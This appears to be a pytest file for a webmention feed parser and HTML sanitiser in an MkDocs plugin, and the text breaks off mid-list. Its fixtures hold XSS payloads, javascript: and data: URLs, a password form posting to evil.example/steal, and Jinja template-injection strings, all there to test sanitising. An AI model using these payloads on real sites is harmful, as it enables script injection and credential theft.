"""Unit tests for incoming webmentions (`mkdocs_backlinks.mentions`): reading both of
webmention.io's formats, surviving hostile and malformed feeds, merging, matching targets to
pages, the store and moderation files.

No MkDocs and no network: the feeds are written here as the receiver would send them.
"""

from __future__ import annotations

import json
import random
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import jinja2
import pytest

from mkdocs_backlinks.mentions.feed import parse_feed
from mkdocs_backlinks.mentions.fields import NAME_LIMIT, TEXT_LIMIT
from mkdocs_backlinks.mentions.merge import later_since_id, merge, rebase, update_store
from mkdocs_backlinks.mentions.model import Mention, MentionsError, MentionsStore, SourceState
from mkdocs_backlinks.mentions.moderation import (
    Moderation,
    dumps_moderation,
    hide,
    load_moderation,
    save_moderation,
)
from mkdocs_backlinks.mentions.pages import group_by_page, page_key
from mkdocs_backlinks.mentions.sanitize import HTML_LIMIT, sanitize_html
from mkdocs_backlinks.mentions.store import STORE_SCHEMA, dumps_store, load_store, save_store

SITE = "https://example.org/blog/"
POST = "https://example.org/blog/posts/hello/"

# ----------------------------------------------------------------------------- fixtures

# What webmention.io's /api/mentions.jf2 returns (shape after its helpers/formats.rb).
JF2_FEED: dict[str, Any] = {
    "type": "feed",
    "name": "Webmentions",
    "children": [
        {
            "type": "entry",
            "author": {
                "type": "card",
                "name": "Tantek Çelik",
                "url": "http://tantek.com/",
                "photo": "https://webmention.io/avatar/tantek.com/abc.jpg",
            },
            "url": "http://tantek.com/2013/112/t2/milestone",
            "published": "2013-04-22T15:03:00-07:00",
            "wm-received": "2013-04-25T17:09:33Z",
            "wm-id": 900,
            "wm-source": "http://tantek.com/2013/112/t2/milestone",
            "wm-target": POST,
            "wm-property": "in-reply-to",
            "wm-private": False,
            "in-reply-to": POST,
            "content": {
                "html": 'Another milestone: <a href="https://twitter.com/eschnou">@eschnou</a>'
                " shows comments",
                "text": "Another milestone: @eschnou shows comments",
            },
        },
        {
            "type": "entry",
            "author": {"type": "card", "name": "Jumpei", "url": "https://twitter.com/junkw"},
            "url": "https://twitter.com/junkw/status/1",
            "published": None,
            "wm-received": "2020-11-01T10:00:00Z",
            "wm-id": 1000,
            "wm-source": "https://brid.gy/like/twitter/me/1/junkw",
            "wm-target": POST,
            "wm-property": "like-of",
            "like-of": POST,
        },
        {
            "type": "entry",
            "author": {"type": "card", "name": "Eve", "url": "https://eve.example/", "photo": ""},
            "url": "https://eve.example/events/party",
            "published": "2021-05-01T09:00:00+02:00",
            "wm-received": "2021-05-01T07:05:00Z",
            "wm-id": 950,
            "wm-source": "https://eve.example/events/party",
            "wm-target": "https://example.org/blog/events/meetup/",
            "wm-property": "rsvp",
            "rsvp": "yes",
            "in-reply-to": "https://example.org/blog/events/meetup/",
            "name": "Going to the meetup",
            "summary": {"content-type": "text/plain", "value": "See you there"},
        },
    ],
}

# What the older /api/mentions.json (the `links` format) returns.
LINKS_FEED: dict[str, Any] = {
    "links": [
        {
            "source": "https://www.zylstra.org/blog/2018/07/4347/",
            "verified": True,
            "verified_date": "2018-07-08T07:59:45+00:00",
            "id": 532400,
            "private": False,
            "data": {
                "author": {
                    "name": "Ton Zijlstra",
                    "url": "https://www.zylstra.org/blog/author/admin-2/",
                    "photo": "https://webmention.io/avatar/secure.gravatar.com/59b7.jpg",
                },
                "url": "https://www.zylstra.org/blog/2018/07/wrapping-my-head/",
                "name": "#4347",
                "content": '<p>Hey Brad, <a href="https://ramblinggit.com/2018/07/x/">'
                "discovery</a> is why I started.</p><p>Second.</p>",
                "published": "2018-07-08T09:59:00+02:00",
                "published_ts": 1531036740,
            },
            "activity": {
                "type": "reply",
                "sentence": "Ton Zijlstra commented ...",
                "sentence_html": "<a>Ton</a> commented",
            },
            "target": POST,
        },
        {
            "source": "https://someone.example/likes/1",
            "verified": True,
            "verified_date": "2018-07-09T07:59:45+00:00",
            "id": 532401,
            "data": {"author": {"name": "Someone"}, "url": None, "content": None},
            "activity": {"type": "like"},
            "target": POST,
        },
        {
            "source": "https://blog.example/a-post",
            "verified_date": "2018-07-10T00:00:00+00:00",
            "id": 532402,
            "data": {},
            "activity": {"type": "link"},
            "target": "https://example.org/blog/",
        },
        {
            "source": "https://party.example/rsvp",
            "id": 532403,
            "data": {},
            "activity": {"type": "rsvp-maybe"},
            "target": "https://example.org/blog/events/meetup/",
        },
        {
            "source": "https://secret.example/p",
            "id": 532404,
            "private": True,
            "activity": {"type": "reply"},
            "target": POST,
        },
        {
            "source": "https://unverified.example/p",
            "id": 532405,
            "verified": False,
            "activity": {"type": "reply"},
            "target": POST,
        },
    ]
}

HOSTILE_HTML = """
<script>alert('SCRIPTBODY')</script>
<p onclick="alert(1)" style="position:fixed;top:0;left:0;width:100%" class="x" id="y">
  Hello <img src=x onerror=alert(1)> there
  <a href="javascript:alert(1)">js</a>
  <a href=" JaVaScRiPt:alert(1)">js2</a>
  <a href="java&#x0A;script:alert(1)">js3</a>
  <a href="&#106;avascript:alert(1)">js4</a>
  <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>
  <a href="vbscript:msgbox(1)">vb</a>
  <a href="/relative/path">rel</a>
  <a href="//evil.example/">protocol-relative</a>
  <a href="https://bank.example@evil.example/">userinfo</a>
  <a href="https://ok.example/" onclick="x()" onmouseover="y()" style="color:red"
     class="c" id="i" target="_blank" rel="opener">ok</a>
  <a href="mailto:someone@example.com">mail</a>
</p>
<svg onload="alert(1)"><script>alert('SVGSCRIPT')</script>
  <a xlink:href="javascript:alert(1)"><text>SVGTEXT</text></a></svg>
<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">MATHTEXT</maction></math>
<style>body { display: none } @import url(https://evil.example/x.css);</style>
<div style="background:url(javascript:alert(1))">styled div</div>
<iframe src="https://evil.example/frame">IFRAMETEXT</iframe>
<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil/">
<link rel="stylesheet" href="https://evil.example/x.css">
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<template><script>alert('TEMPLATESCRIPT')</script></template>
<!-- a comment with <script>alert(1)</script> -->
<blockquote cite="javascript:alert(1)">quoted {{ config }} and
{% raw %}{{ 7*7 }}{% endraw %}</blockquote>
<abbr title="HyperText" onclick="x">HTML</abbr>
"""

HOSTILE_ENTRY: dict[str, Any] = {
    "type": "entry",
    "author": {
        "type": "card",
        "name": "<script>alert(1)</script>Mallory {{ config }}\u202e\x00",
        "url": "javascript:alert(document.cookie)",
        "photo": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    },
    "url": "javascript:alert(1)//https://example.org/",
    "published": "<script>alert(1)</script>",
    "wm-received": "2024-01-01T00:00:00Z{{ config }}",
    "wm-id": "<script>",
    "wm-source": "https://mallory.example/post",
    "wm-target": POST,
    "wm-property": "in-reply-to",
    "name": '{% raw %}<img src=x onerror="alert(1)">{{ config.items() }}',
    "content": {"html": HOSTILE_HTML, "text": "<script>alert(1)</script> {{ config }}"},
    "rsvp": "<b>yes</b>",
}

ALLOWED_TAGS = {
    "p", "br", "a", "em", "strong", "b", "i", "blockquote", "code", "pre", "ul", "ol", "li",
    "q", "cite", "abbr", "del", "ins", "sub", "sup", "small",
}  # fmt: skip


class Collect(HTMLParser):
    """Every element, attribute and text of some HTML, as a browser-like parser sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def parse_html(html: str) -> Collect:
    collector = Collect()
    collector.feed(html)
    collector.close()
    return collector


def assert_safe(html: str) -> Collect:
    """Fail unless `html` holds only allowed elements and attributes and safe links."""
    parsed = parse_html(html)
    assert not parsed.comments
    for tag, attrs in parsed.elements:
        assert tag in ALLOWED_TAGS, tag
        assert tag not in {"script", "style", "iframe", "svg", "math", "form", "img", "object"}
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            assert name not in {"style", "class", "id", "src", "target"}, (tag, name)
            assert name in {"href", "title", "rel"}, (tag, name)
            if name == "href":
                assert value is not None
                parts = urlsplit(value)
                assert parts.scheme in {"http", "https", "mailto"}, value
                if parts.scheme != "mailto":
                    assert parts.netloc and "@" not in parts.netloc, value
        if tag == "a":
            rel = (attrs.get("rel") or "").split()
            assert "nofollow" in rel and "ugc" in rel and "noopener" in rel, attrs
            assert "opener" not in rel
        else:
            assert "rel" not in attrs
    return parsed


def mention(wid: str, **fields: Any) -> Mention:
    values: dict[str, Any] = {
        "kind": "reply",
        "source": f"https://them.example/{wid}",
        "target": POST,
        "url": f"https://them.example/{wid}",
        "received": "2024-01-01T00:00:00Z",
    }
    values.update(fields)
    return Mention(id=wid, **values)


# ----------------------------------------------------------------------------- formats


def test_jf2_feed_is_read() -> None:
    mentions, problems = parse_feed(JF2_FEED)
    assert problems == []
    by_id = {m.id: m for m in mentions}
    reply = by_id["900"]
    assert reply.kind == "reply"
    assert reply.source == "http://tantek.com/2013/112/t2/milestone"
    assert reply.target == POST
    assert reply.author_name == "Tantek Çelik"
    assert reply.author_url == "http://tantek.com/"
    assert reply.author_photo == "https://webmention.io/avatar/tantek.com/abc.jpg"
    assert reply.published == "2013-04-22T15:03:00-07:00"
    assert reply.received == "2013-04-25T17:09:33Z"
    assert reply.content_text == "Another milestone: @eschnou shows comments"
    assert 'href="https://twitter.com/eschnou"' in reply.content_html
    assert_safe(reply.content_html)

    like = by_id["1000"]
    assert (like.kind, like.url, like.published) == (
        "like",
        "https://twitter.com/junkw/status/1",
        "",
    )
    assert like.source == "https://brid.gy/like/twitter/me/1/junkw"
    assert like.author_photo is None

    rsvp = by_id["950"]
    assert (rsvp.kind, rsvp.rsvp, rsvp.title) == ("rsvp", "yes", "Going to the meetup")
    assert rsvp.content_text == "See you there"  # from the summary, as there is no content
    assert rsvp.author_photo is None  # "" is no photo


def test_single_jf2_entry_and_bare_list() -> None:
    entry = JF2_FEED["children"][0]
    assert [m.id for m in parse_feed(entry)[0]] == ["900"]
    mixed = [entry, LINKS_FEED["links"][0]]
    mentions, problems = parse_feed(mixed)
    # Read (nothing is lost), but no receiver sends an array: the author hears of it.
    assert [p.skipped for p in problems] == [False]
    assert "JSON array where a feed object" in problems[0]
    assert {m.id for m in mentions} == {"900", "532400"}


def test_older_jf2_entry_names_target_under_its_property() -> None:
    old = {
        "type": "entry",
        "author": {"type": "card", "name": "Old", "url": "https://old.example/"},
        "url": "https://old.example/like/1",
        "wm-id": 12,
        "like-of": POST,
        "wm-property": "like-of",
        "content": {"content-type": "text/html", "value": "<p>Liked <em>this</em></p>"},
    }
    [like], problems = parse_feed(old)
    assert problems == []
    assert (like.kind, like.source, like.target) == ("like", "https://old.example/like/1", POST)
    assert like.content_html == "<p>Liked <em>this</em></p>"
    assert like.content_text == "Liked this"


def test_links_format_is_read() -> None:
    mentions, problems = parse_feed(LINKS_FEED)
    by_id = {m.id: m for m in mentions}
    assert set(by_id) == {"532400", "532401", "532402", "532403"}
    assert len(problems) == 2
    assert any("532404" in p and "private" in p for p in problems)
    assert any("532405" in p and "not verified" in p for p in problems)

    reply = by_id["532400"]
    assert reply.kind == "reply"
    assert reply.source == "https://www.zylstra.org/blog/2018/07/4347/"
    assert reply.url == "https://www.zylstra.org/blog/2018/07/wrapping-my-head/"
    assert reply.author_name == "Ton Zijlstra"
    assert reply.title == "#4347"
    assert reply.published == "2018-07-08T09:59:00+02:00"
    assert reply.received == "2018-07-08T07:59:45+00:00"
    assert reply.content_text == "Hey Brad, discovery is why I started.\nSecond."
    assert_safe(reply.content_html)

    assert by_id["532401"].kind == "like"
    assert by_id["532401"].url == "https://someone.example/likes/1"  # url None -> source
    assert by_id["532402"].kind == "mention"  # webmention.io's "link"
    assert (by_id["532403"].kind, by_id["532403"].rsvp) == ("rsvp", "maybe")


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        ("a string", "not a mentions feed"),
        (42, "not a mentions feed"),
        (None, "not a mentions feed"),
        ({"children": {"a": 1}}, "'children' is a dict"),
        ({"links": "x"}, "'links' is a str"),
        ({"type": "feed"}, "no 'children'"),
        ({"error": "forbidden", "error_description": "Token not valid"}, "Token not valid"),
    ],
)
def test_what_is_not_a_feed_is_one_problem(data: object, expected: str) -> None:
    mentions, problems = parse_feed(data)
    assert mentions == []
    assert len(problems) == 1
    assert expected in problems[0]


def test_an_empty_feed_is_no_problem() -> None:
    assert parse_feed({"type": "feed", "name": "Webmentions", "children": []}) == ([], [])


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example\\.bank.example/",  # a browser goes to evil.example
        "https://x<svg/",
        'https://a"b.example/',
        "https://a|b.example/",
        "https://=1+2/",
        "https://a%3Cb.example/",
    ],
)
def test_urls_whose_host_is_no_host_name_are_refused(url: str) -> None:
    """A host with characters no host name has reads as one site and goes to another (the
    backslash, as user info does), or carries markup and table syntax into the relationships
    view (outreach.md): refused like the other unsafe URLs."""
    good = JF2_FEED["children"][0]
    as_author = {**good, "author": {"name": "M", "url": url, "photo": url}}
    mentions, _ = parse_feed({"children": [{**good, "wm-source": url}, as_author]})
    assert len(mentions) == 1
    assert mentions[0].author_url is None and mentions[0].author_photo is None


@pytest.mark.parametrize(
    "url",
    [
        "https://bücher.example/",
        "https://xn--bcher-kva.example/a",
        "https://sub_domain.example/",
        "https://[2001:db8::1]/",
        "https://example.org:8443/x",
        "HTTPS://Example.ORG/",
    ],
)
def test_urls_with_unusual_but_real_hosts_are_kept(url: str) -> None:
    good = JF2_FEED["children"][0]
    mentions, _ = parse_feed({"children": [{**good, "author": {"name": "M", "url": url}}]})
    assert mentions[0].author_url == url


def test_one_bad_entry_never_hides_the_others() -> None:
    good = JF2_FEED["children"][0]
    feed = {
        "type": "feed",
        "children": [
            "not an entry",
            {**good, "wm-id": 1, "wm-source": "javascript:alert(1)"},
            {**good, "wm-id": 2, "wm-source": "data:text/html,hi"},
            {**good, "wm-id": 3, "wm-target": "/relative/target"},
            {**good, "wm-id": 4, "wm-target": None, "in-reply-to": None},
            {**good, "wm-id": 5, "wm-source": "ftp://files.example/x"},
            {**good, "wm-id": 6, "wm-private": True},
            good,
            None,
        ],
    }
    mentions, problems = parse_feed(feed)
    assert [m.id for m in mentions] == ["900"]
    assert len(problems) == 8
    assert problems[0].startswith("entry 1:")
    assert "'1'" in problems[1] and "source 'javascript:alert(1)'" in problems[1]
    assert "target '/relative/target'" in problems[3]
    assert "private" in problems[6]
    for problem in problems:
        assert "\n" not in problem


# ----------------------------------------------------------------------------- hostile input


def test_hostile_entry_is_made_safe() -> None:
    [m], problems = parse_feed({"type": "feed", "children": [HOSTILE_ENTRY]})
    # Nothing skipped; the dates that are markup are left empty, and said so.
    assert {(p.reason, p.skipped) for p in problems} == {("bad date left empty", False)}
    # URLs that are not http(s) are gone; the mention falls back to its source.
    assert m.author_url is None
    assert m.author_photo is None
    assert m.url == "https://mallory.example/post"
    assert m.published == ""
    assert m.received == ""
    assert m.rsvp == ""
    assert m.id.startswith("h-")  # "<script>" is no id: a stable digest instead
    # Names are plain text (escaped when shown) without controls or bidi overrides.
    assert "\u202e" not in m.author_name and "\x00" not in m.author_name
    assert m.author_name.endswith("Mallory {{ config }}")

    parsed = assert_safe(m.content_html)
    text = "".join(parsed.text)
    for marker in ("SCRIPTBODY", "SVGSCRIPT", "SVGTEXT", "MATHTEXT", "IFRAMETEXT"):
        assert marker not in text
    assert "TEMPLATESCRIPT" not in m.content_html
    assert "display: none" not in text and "@import" not in text
    assert "password" not in m.content_html
    # The links that were safe survive, the others lose their href but keep their text.
    hrefs = [attrs.get("href") for tag, attrs in parsed.elements if tag == "a"]
    assert "https://ok.example/" in hrefs
    assert "mailto:someone@example.com" in hrefs
    assert sum(1 for h in hrefs if h) == 2
    assert "protocol-relative" in text and "js2" in text
    # The template syntax is text: it reads the same once parsed.
    assert "quoted {{ config }} and\n{% raw %}{{ 7*7 }}{% endraw %}" in text
    assert "{{" not in m.content_html and "{%" not in m.content_html


def test_hostile_links_format_entry_is_made_safe() -> None:
    hostile = {
        "source": "https://mallory.example/p",
        "target": POST,
        "id": 66,
        "verified_date": "2024-01-01T00:00:00Z",
        "activity": {"type": "<script>"},
        "data": {
            "author": {"name": "M", "url": "data:text/html,x", "photo": "javascript:x"},
            "url": "//mallory.example/p",
            "content": HOSTILE_HTML,
            "name": "<b>x</b>",
            "rsvp": "hacked",
        },
    }
    [m], problems = parse_feed({"links": [hostile]})
    assert problems == []
    assert (m.kind, m.author_url, m.author_photo, m.rsvp) == ("mention", None, None, "")
    assert m.url == "https://mallory.example/p"
    assert m.title == "<b>x</b>"  # plain text, escaped by whoever shows it
    assert_safe(m.content_html)
    assert "SCRIPTBODY" not in m.content_text and "SVGSCRIPT" not in m.content_text


def test_template_syntax_stays_literal_when_rendered() -> None:
    """Jinja evaluates template source, never the data it is given: a reply that says
    `{{ config }}` must reach the page as those characters, and the secret stays put."""
    [m], _ = parse_feed({"type": "feed", "children": [HOSTILE_ENTRY]})
    env = jinja2.Environment(autoescape=True, undefined=jinja2.StrictUndefined)
    template = env.from_string(
        "<p>{{ m.author_name }}</p><div>{{ m.content_html | safe }}</div>"
        "<p>{{ m.content_text }}</p><p>{{ m.title }}</p>"
    )
    secret = "SECRET-TOKEN-123"
    out = template.render(m=m, config={"token": secret})
    assert secret not in out
    assert "49" not in out
    text = "".join(parse_html(out).text)
    assert "Mallory {{ config }}" in text
    assert "{{ 7*7 }}" in text
    assert "{{ config.items() }}" in text
    assert "<script>alert(1)</script> {{ config }}" in text  # content_text, escaped
    assert_safe(out.split("<div>", 1)[1].split("</div>", 1)[0])
    # Even fed back to Jinja as template source (what no step may do), the HTML is inert.
    assert secret not in env.from_string(m.content_html).render(config={"token": secret})


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ('<a href="https://x.example/">x</a>',
         '<a href="https://x.example/" rel="nofollow ugc noopener">x</a>'),
        ("<a>bare</a>", '<a rel="nofollow ugc noopener">bare</a>'),
        ("<p>a<br>b</p>", "<p>a<br>b</p>"),
        ("<span class=x>t</span>", "t"),
        ("<img src=x onerror=alert(1)>", ""),
        ("<!-- c -->t", "t"),
        ("<abbr title=T>A</abbr>", '<abbr title="T">A</abbr>'),
        ("<q cite=https://x.example/>q</q>", "<q>q</q>"),
        ("{% if 1 %}x{% endif %}", "&#123;% if 1 %&#125;x&#123;% endif %&#125;"),
    ],
)  # fmt: skip
def test_sanitize_html_table(html: str, expected: str) -> None:
    assert sanitize_html(html) == expected


def test_sanitize_html_is_bounded_and_idempotent() -> None:
    for html in (
        "<b>" * 4000,
        "{" * 6000,
        "&" * 6000,
        "<p>" + "word " * 3000 + "</p>",
        HOSTILE_HTML * 5,
        '<a href="https://x.example/">' + "y" * 9000,
    ):
        once = sanitize_html(html)
        assert len(once) <= HTML_LIMIT
        assert sanitize_html(once) == once
        assert_safe(once)


# ----------------------------------------------------------------------------- wrong types


def entry(**fields: Any) -> dict[str, Any]:
    base: dict[str, Any] = {
        "type": "entry",
        "wm-id": 7,
        "wm-source": "https://them.example/p",
        "wm-target": POST,
        "wm-property": "mention-of",
    }
    base.update(fields)
    return base


@pytest.mark.parametrize(
    ("author", "name", "url", "photo"),
    [
        ("Jane", "Jane", None, None),
        ("https://jane.example/", "", "https://jane.example/", None),
        ("javascript:alert(1)", "javascript:alert(1)", None, None),
        (42, "", None, None),
        ([], "", None, None),
        ({}, "", None, None),
        (None, "", None, None),
        ([{"name": "Listy", "url": "https://l.example/"}], "Listy", "https://l.example/", None),
        ({"name": 5, "url": 6, "photo": 7}, "", None, None),
        ({"name": ["Array"], "url": ["https://a.example/"]}, "Array", "https://a.example/", None),
        ({"name": "P", "photo": {"value": "https://x/p.jpg", "alt": ""}}, "P", None, "https://x/p.jpg"),
        ({"name": "P", "photo": {"value": "javascript:1", "alt": ""}}, "P", None, None),
        ({"name": "P", "photo": {"alt": "no value"}}, "P", None, None),
        ({"name": "P", "photo": ["https://x/1.jpg", "https://x/2.jpg"]}, "P", None, "https://x/1.jpg"),
        ({"name": "  Spaced\n\tOut  "}, "Spaced Out", None, None),
        ({"url": "/relative"}, "", None, None),
        ({"url": "https://user:pw@jane.example/"}, "", None, None),
        ({"url": "https://jane.example:notaport/"}, "", None, None),
        ({"url": "https://jane.example/a b"}, "", None, None),
    ],
)  # fmt: skip
def test_author_of_any_shape(author: object, name: str, url: str | None, photo: str | None) -> None:
    [m], problems = parse_feed(entry(author=author))
    assert problems == []
    assert (m.author_name, m.author_url, m.author_photo) == (name, url, photo)


@pytest.mark.parametrize(
    ("content", "html", "text"),
    [
        (7, "", ""),
        (None, "", ""),
        ([], "", ""),
        ("plain <b>text</b>", "", "plain <b>text</b>"),  # a JF2 string is text, not HTML
        ({"html": 5, "text": ["listed"]}, "", "listed"),
        ({"html": "<b>bold</b>"}, "<b>bold</b>", "bold"),
        ({"text": "only text"}, "", "only text"),
        ({"content-type": "text/plain", "value": "old style"}, "", "old style"),
    ],
)
def test_content_of_any_shape(content: object, html: str, text: str) -> None:
    [m], _ = parse_feed(entry(content=content))
    assert (m.content_html, m.content_text) == (html, text)


def test_other_wrong_types_fall_back() -> None:
    [m], problems = parse_feed(
        entry(
            **{
                "wm-id": {"a": 1},
                "wm-property": ["like-of"],
                "url": ["https://them.example/own"],
                "name": 5,
                "published": 12345,
                "wm-received": ["2024-01-01T00:00:00Z"],
                "rsvp": "YES",
            }
        )
    )
    assert [(p.reason, p.skipped) for p in problems] == [("bad date left empty", False)]
    assert m.id.startswith("h-")
    assert m.kind == "rsvp"  # an rsvp value and no known property
    assert m.rsvp == "yes"
    assert m.url == "https://them.example/own"
    assert (m.title, m.published, m.received) == ("", "", "2024-01-01T00:00:00Z")
    [b], _ = parse_feed(entry(**{"wm-id": True}))
    assert b.id.startswith("h-")


def test_lengths_are_bounded() -> None:
    [m], _ = parse_feed(
        entry(
            author={"name": "N" * 5000},
            name="T" * 5000,
            content={"html": "<p>" + "h" * 50_000 + "</p>", "text": "x" * 50_000},
        )
    )
    assert len(m.author_name) == NAME_LIMIT and m.author_name.endswith("…")
    assert len(m.title) == NAME_LIMIT
    assert len(m.content_text) == TEXT_LIMIT
    assert len(m.content_html) <= HTML_LIMIT
    assert m.content_html.startswith("<p>hhh")
    mentions, problems = parse_feed(entry(**{"wm-source": "https://x.example/" + "a" * 5000}))
    assert mentions == []
    assert "is not an http(s) URL" in problems[0]
    assert len(problems[0]) < 300  # the hostile value is cut short in the message too


def test_digest_id_is_stable_across_url_variants() -> None:
    a = parse_feed(entry(**{"wm-id": None, "wm-source": "https://them.example/p"}))[0][0]
    b = parse_feed(entry(**{"wm-id": None, "wm-source": "http://www.them.example/p/"}))[0][0]
    c = parse_feed(entry(**{"wm-id": None, "wm-property": "like-of"}))[0][0]
    assert a.id == b.id
    assert a.id != c.id


# ----------------------------------------------------------------------------- merging


def test_merge_deduplicates_by_id_and_updates() -> None:
    old = mention("5", content_text="first version")
    new = replace(old, content_text="edited", content_html="<p>edited</p>")
    merged = merge([old, mention("6")], [new])
    assert [m.id for m in merged] == ["5", "6"]
    assert merged[0].content_text == "edited"


def test_merge_deduplicates_by_source_target_and_kind() -> None:
    digest = mention("h-abc", source="http://www.them.example/p/", url="http://them.example/p")
    numbered = mention("77", source="https://them.example/p")
    assert [m.id for m in merge([digest], [numbered])] == ["77"]
    # ...but a like and a reply from the same post are two mentions.
    like = mention("78", source="https://them.example/p", kind="like")
    assert len(merge([numbered], [like])) == 2


def test_merge_order_is_fixed() -> None:
    items = [
        mention("1000", target="https://example.org/blog/b/", published="2024-01-02T00:00:00Z"),
        mention("900", target="https://example.org/blog/b/", published="2024-01-02T00:00:00Z"),
        mention("3", target="https://example.org/blog/b/", published="2024-01-01T23:00:00-02:00"),
        mention("4", target="https://example.org/blog/a/", published="2030-01-01T00:00:00Z"),
        mention("5", target="https://example.org/blog/b/", published="", received=""),
        mention("h-x", target="https://example.org/blog/b/", published="2023-12-31"),
    ]
    expected = ["4", "h-x", "900", "1000", "3", "5"]
    for seed in range(5):
        shuffled = list(items)
        random.Random(seed).shuffle(shuffled)
        assert [m.id for m in merge(shuffled[:3], shuffled[3:])] == expected


def test_rebase_keeps_what_another_writer_saved_since_we_loaded() -> None:
    """A build that loaded the store, then a `fetch` that saved more mentions, then the build
    saving its own: the build's changes go on top of the file as it is now, nothing is lost."""
    base = MentionsStore((mention("1"), mention("2")), {"wm": SourceState("2", "day 1")})
    ours = MentionsStore(
        (mention("1", content_text="edited"), mention("3")), {"wm": SourceState("3", "day 2")}
    )  # we updated 1, removed 2 (pruned), added 3
    theirs = MentionsStore(
        (mention("1"), mention("2"), mention("9")),
        {"wm": SourceState("9", "day 3"), "other": SourceState("5", "day 3")},
    )  # they added 9 and another source
    rebased = rebase(base, ours, theirs)
    by_id = {m.id: m for m in rebased.mentions}
    assert sorted(by_id) == ["1", "3", "9"]
    assert by_id["1"].content_text == "edited"
    assert rebased.sources == {
        "other": SourceState("5", "day 3"),
        "wm": SourceState("9", "day 3"),  # since_id only grows, whoever moved it
    }
    # Nothing changed on our side: theirs exactly.
    assert rebase(base, base, theirs) == theirs
    # Nobody else wrote: ours exactly.
    assert rebase(base, ours, base) == MentionsStore(
        tuple(merge([], ours.mentions)), dict(sorted(ours.sources.items()))
    )


def test_update_store_tracks_since_id() -> None:
    store = update_store(MentionsStore(), "webmention.io", [mention("12"), mention("9")], "t1")
    assert store.sources["webmention.io"] == SourceState("12", "t1")
    store = update_store(store, "webmention.io", [mention("h-zz")])
    assert store.sources["webmention.io"] == SourceState("12", "t1")
    store = update_store(store, "other", [mention("3")], "t2")
    assert list(store.sources) == ["other", "webmention.io"]
    assert [m.id for m in store.mentions] == ["3", "9", "12", "h-zz"]


@pytest.mark.parametrize(
    ("since_ids", "later"),
    [
        pytest.param(("9", "10"), "10", id="by-value-not-text"),
        pytest.param(("0010", "9"), "10", id="leading-zeros-dropped"),
        pytest.param(("007", "7"), "7", id="one-number-two-spellings"),
        pytest.param(("000",), "0", id="all-zeros"),
        pytest.param(("", "9"), "9", id="empty-is-never-fetched"),
        pytest.param(("9", ""), "9", id="empty-second"),
        pytest.param(("",), "", id="only-empty"),
        pytest.param((), "", id="none-at-all"),
        pytest.param(("abc", "9"), "9", id="a-number-beats-text"),
        pytest.param(("9", "abc"), "9", id="a-number-beats-text-second"),
        pytest.param(("abc", "abd"), "abd", id="two-texts-by-text"),
        pytest.param(("abd", "abc"), "abd", id="two-texts-either-order"),
        pytest.param(("abc", ""), "abc", id="text-beats-empty"),
        pytest.param(("-5", "4"), "4", id="a-sign-is-not-a-number"),
        pytest.param(("\u0669", "3"), "3", id="arabic-indic-digit-is-not-ascii"),
        pytest.param(("1" * 5000, "9"), "1" * 5000, id="longer-than-int-parses"),
    ],
)
def test_later_since_id(since_ids: tuple[str, ...], later: str) -> None:
    assert later_since_id(*since_ids) == later


def test_a_fetch_and_a_rebase_agree_on_which_since_id_is_later() -> None:
    """Both move `since_id` by `later_since_id`: a store rebased onto another writer's keeps
    the id a fetch would have kept (a rebase used to let "" or text beat a number, so the next
    fetch asked webmention.io for everything again)."""
    for stored, other in [("", "9"), ("abc", "9"), ("007", "7"), ("12", "9")]:
        fetched = update_store(
            MentionsStore(sources={"wm": SourceState(stored)}), "wm", [mention(other)]
        )
        base = MentionsStore(sources={"wm": SourceState(stored, "day 1")})
        ours = MentionsStore(sources={"wm": SourceState(stored, "day 2")})
        theirs = MentionsStore(sources={"wm": SourceState(other, "day 3")})
        rebased = rebase(base, ours, theirs).sources["wm"]
        assert rebased == SourceState(fetched.sources["wm"].since_id, "day 3")
        assert rebased.since_id == later_since_id(stored, other)


def test_update_store_ignores_ids_that_are_not_numbers_for_since_id() -> None:
    """Our digest ids (`h-...`) mean nothing to a receiver: they never become the since_id."""
    store = update_store(MentionsStore(), "wm", [mention("h-zz"), mention("h-aa")])
    assert store.sources["wm"].since_id == ""
    store = update_store(store, "wm", [mention("0042"), mention("h-zz")])
    assert store.sources["wm"].since_id == "42"


# ----------------------------------------------------------------------------- page matching


@pytest.mark.parametrize(
    ("url", "key"),
    [
        ("https://example.org/blog/posts/hello/", "posts/hello/"),
        ("http://example.org/blog/posts/hello/", "posts/hello/"),
        ("https://www.example.org/blog/posts/hello/", "posts/hello/"),
        ("https://WWW.Example.ORG/blog/posts/hello", "posts/hello/"),
        ("https://example.org/blog/posts/hello/index.html", "posts/hello/"),
        ("https://example.org/blog/posts/hello/?utm_source=x#comments", "posts/hello/"),
        ("https://example.org/blog/posts/hello#frag", "posts/hello/"),
        ("https://example.org:443/blog/posts/hello/", "posts/hello/"),
        ("https://example.org/blog/posts/h%C3%A9llo/", "posts/héllo/"),
        ("https://example.org/blog/posts/h%c3%a9llo/", "posts/héllo/"),
        ("https://example.org/blog/posts/héllo/", "posts/héllo/"),
        ("https://example.org/blog/posts/%68ello/", "posts/hello/"),
        ("https://example.org/blog//posts/./x/../hello/", "posts/hello/"),
        ("https://example.org/blog/posts/hello.html", "posts/hello.html"),
        ("https://example.org/blog/", ""),
        ("https://example.org/blog", ""),
        ("https://example.org/blog/index.html", ""),
        ("https://old.example.net/p/posts/hello/", "posts/hello/"),
